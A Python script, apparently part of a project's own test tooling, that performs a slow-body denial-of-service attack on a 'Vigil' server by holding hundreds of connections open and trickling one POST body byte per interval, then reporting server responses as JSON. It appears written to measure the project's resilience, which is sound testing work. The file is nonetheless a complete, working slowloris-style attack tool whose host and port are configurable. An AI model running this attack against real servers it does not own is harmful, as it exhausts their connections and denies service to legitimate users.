#!/usr/bin/env python3
"""Slow-body attack on a Vigil server, for measuring what it does to decisions (docs/performance.md).

Keeps N connections open from one source address, each sending the headers of POST /v1/decisions
with a declared body, then one body byte every INTERVAL seconds. A connection the server closes is
opened again at its next tick (INTERVAL after it was closed), so the attack tries to hold N
connections for its whole duration. At the end it prints how the server answered and how long a
connection lived, as JSON.

  python3 scripts/attacks/slow-bodies.py --port 8080 --connections 250 --interval 5 --duration 45
"""
import argparse
import json
import selectors
import socket
import time
from collections import Counter


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, default=8080)
    p.add_argument("--source", default="127.0.0.2", help="local address to send from (one client)")
    p.add_argument("--connections", type=int, default=250)
    p.add_argument("--body-bytes", type=int, default=2000, help="declared Content-Length")
    p.add_argument("--interval", type=float, default=5.0, help="seconds between two body bytes")
    p.add_argument("--duration", type=float, default=45.0)
    a = p.parse_args()

    head = (f"POST /v1/decisions HTTP/1.1\r\nHost: {a.host}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {a.body_bytes}\r\n\r\n").encode()
    sel = selectors.DefaultSelector()
    conns = {}  # socket -> {opened, next_byte_at, answer}
    answers = Counter()
    lifetimes = []
    opened_total = 0
    refused_connects = 0
    reopen_at = []  # when to open a connection again, in order

    def open_one(now):
        nonlocal opened_total, refused_connects
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((a.source, 0))
            s.settimeout(2)
            s.connect((a.host, a.port))
            s.sendall(head)
        except OSError:
            refused_connects += 1
            s.close()
            reopen_at.append(now + a.interval)
            return
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        conns[s] = {"opened": now, "next": now + a.interval, "answer": b""}
        opened_total += 1

    def close_one(s, now, by_server=True):
        info = conns.pop(s)
        sel.unregister(s)
        s.close()
        if not by_server:
            return
        status = info["answer"].split(b" ", 2)[1].decode() if info["answer"].startswith(b"HTTP/") else "closed without answer"
        answers[status] += 1
        lifetimes.append(now - info["opened"])
        reopen_at.append(now + a.interval)

    start = time.monotonic()
    for _ in range(a.connections):
        open_one(start)
    while (now := time.monotonic()) - start < a.duration:
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if data:
                conns[s]["answer"] += data
            else:
                close_one(s, now)
        for s, info in list(conns.items()):
            if now >= info["next"]:
                try:
                    s.send(b"a")
                    info["next"] = now + a.interval
                except OSError:
                    close_one(s, now)
        while reopen_at and reopen_at[0] <= now and len(conns) < a.connections:
            reopen_at.pop(0)
            open_one(time.monotonic())
    still_open = len(conns)
    for s in list(conns):
        close_one(s, time.monotonic(), by_server=False)
    lifetimes.sort()
    closed = len(lifetimes)
    print(json.dumps({
        "connections_opened": opened_total,
        "connects_failed": refused_connects,
        "closed_by_server": closed,
        "open_at_end": still_open,
        "answers": dict(answers),
        "lifetime_seconds_median": round(lifetimes[len(lifetimes) // 2], 2) if lifetimes else None,
    }))


if __name__ == "__main__":
    main()
